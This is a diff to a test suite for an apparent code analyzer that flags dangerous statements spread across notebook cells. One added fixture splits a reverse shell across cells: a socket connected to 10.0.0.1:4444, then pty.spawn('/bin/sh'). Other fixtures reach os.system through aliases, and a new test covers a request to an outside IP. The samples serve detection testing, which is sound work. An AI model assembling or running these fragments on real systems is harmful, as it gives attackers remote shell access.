@@ -66,6 +66,10 @@ SPLIT = {
         *PADDING,
         "import pty\npty.spawn('/bin/sh')\n",
     ],
+    "a socket connected by a function an earlier cell defined, the shell later": [
+        "def wire(x):\n    x.connect(('10.0.0.1', 4444))\n", "import socket, os\nc = socket.socket()", "wire(c)",
+        *PADDING, "import pty\npty.spawn('/bin/sh')",
+    ],
     "an alias handed along a chain of names": ["import os as a", "b = a", *PADDING, "c = b", *PADDING, "c.system('id')"],
     "a name bound, rebound, and bound again": ["import os as a", "b = a", "c = b", "b = 1", *PADDING, "b = a", "b.system('id')"],
     "a command put into a list, run later": [
@@ -168,3 +172,13 @@ def test_a_session_that_reaches_names_by_computed_names_is_judged_with_every_ear
     for cell in ("import torch", "model = torch.nn.Linear(2, 2)", "model.eval()", *PADDING):
         ml.add(cell, whole.acting_lines)
     assert ml.earlier("x = 1\nx + 1").lines == ()  # a method named eval is not eval
+
+
+def test_the_analysis_names_the_statements_that_establish_something_beyond_their_names(whole: AnalyzerSuite) -> None:
+    program = (
+        "import os\nx = 1\nos.chdir('/tmp')\nprint(x)\n"  # a folder changed to (line 3)
+        "@dec\ndef f():\n    os.system('x')\n"  # a finding, with its decorator (lines 5-7)
+        "import requests\nrequests.get('http://203.0.113.9/')\n"  # the network used (line 9)
+    )
+    assert whole.acting_lines(program) == {3, 5, 6, 7, 9}
+    assert whole.acting_lines("x = (") is None
